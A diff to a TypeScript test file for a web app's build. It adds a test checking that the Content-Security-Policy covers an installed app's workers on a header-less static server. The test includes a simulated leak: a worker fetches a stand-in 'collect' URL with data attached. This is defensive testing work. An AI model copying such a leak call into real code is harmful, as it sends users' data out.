@@ -5,9 +5,10 @@
  * deployment is offered as an update. Nothing leaves the host, and the Content-Security-Policy
  * the build carries lets the whole flow run with no violation.
  */
-import { appendFile, mkdtemp, readdir, rm } from 'node:fs/promises';
+import { appendFile, mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
+import { createServer } from 'node:http';
 import { tmpdir } from 'node:os';
-import { join } from 'node:path';
+import { extname, join } from 'node:path';
 import { build, preview, type PreviewServer } from 'vite';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { IncomingMessage } from 'node:http';
@@ -197,7 +198,7 @@ describe('the production build', () => {
       // Not one request of the app reached the host while airplane mode was on. The browser's
       // own check for a new version of the service worker (its scripts, on navigation) is not
       // the app's and cannot be intercepted; it carries nothing of the user's.
-      const browserUpdateCheck = /^\/(sw|airplane-sw|workbox-[\w-]+)\.js$/;
+      const browserUpdateCheck = /^\/(sw|airplane-sw|csp-policy|workbox-[\w-]+)\.js$/;
       expect(hits.filter((u) => !browserUpdateCheck.test(u))).toEqual([]);
 
       await page.getByTestId('airplane').getByLabel('Block every network request').uncheck();
@@ -221,5 +222,64 @@ describe('the production build', () => {
     await expect.poll(() => page.getByRole('heading', { level: 1 }).textContent()).toBeTruthy();
     expect(await page.getByTestId('update-available').count()).toBe(0);
     expect(page.url().startsWith(baseURL)).toBe(true);
+  });
+
+  it('runs an installed app’s workers under the policy on a host that sends no headers at all', async () => {
+    // A plain static server: files with their types, no Content-Security-Policy (nor isolation).
+    const types: Record<string, string> = {
+      '.html': 'text/html',
+      '.js': 'text/javascript',
+      '.mjs': 'text/javascript',
+      '.css': 'text/css',
+      '.wasm': 'application/wasm',
+      '.json': 'application/json',
+      '.webmanifest': 'application/manifest+json',
+      '.svg': 'image/svg+xml',
+    };
+    const plain = createServer((req, res) => {
+      const path = decodeURIComponent(new URL(req.url ?? '/', 'http://x').pathname);
+      const file = join(outDir, path === '/' ? 'index.html' : path);
+      readFile(file).then(
+        (body) => {
+          res.writeHead(200, { 'content-type': types[extname(file)] ?? 'application/octet-stream' });
+          res.end(body);
+        },
+        () => {
+          res.writeHead(404);
+          res.end();
+        },
+      );
+    });
+    await new Promise<void>((done) => plain.listen(0, 'localhost', done));
+    const address = plain.address();
+    if (!address || typeof address === 'string') throw new Error('no TCP address');
+    const installed = await openApp('#/tasks', `http://localhost:${address.port}`);
+    const dataWorkerLeaks = async () => {
+      await installed.page.goto(`http://localhost:${address.port}/#/models`);
+      const worker = await expect
+        .poll(() => installed.page.workers().find((w) => w.url().includes('data.worker')), { timeout: 30_000 })
+        .toBeDefined()
+        .then(() => installed.page.workers().find((w) => w.url().includes('data.worker')));
+      return worker?.evaluate(
+        () =>
+          new Promise<string>((resolve) => {
+            self.addEventListener('securitypolicyviolation', (e) => resolve(e.blockedURI), { once: true });
+            fetch('https://example.org/collect?data=3', { mode: 'no-cors' }).catch(() => undefined);
+            setTimeout(() => resolve('no violation'), 3_000);
+          }),
+      );
+    };
+    try {
+      // First visit, before the service worker serves anything: this host's worker has no policy.
+      expect(await dataWorkerLeaks()).toBe('no violation');
+      await installed.page.getByTestId('offline-ready').waitFor({ timeout: 90_000 });
+      // Installed: the service worker serves the worker script, with the policy.
+      await installed.page.reload();
+      expect(await installed.page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
+      expect(await dataWorkerLeaks()).toContain('https://example.org');
+    } finally {
+      await installed.close();
+      await new Promise((done) => plain.close(done));
+    }
   });
 });
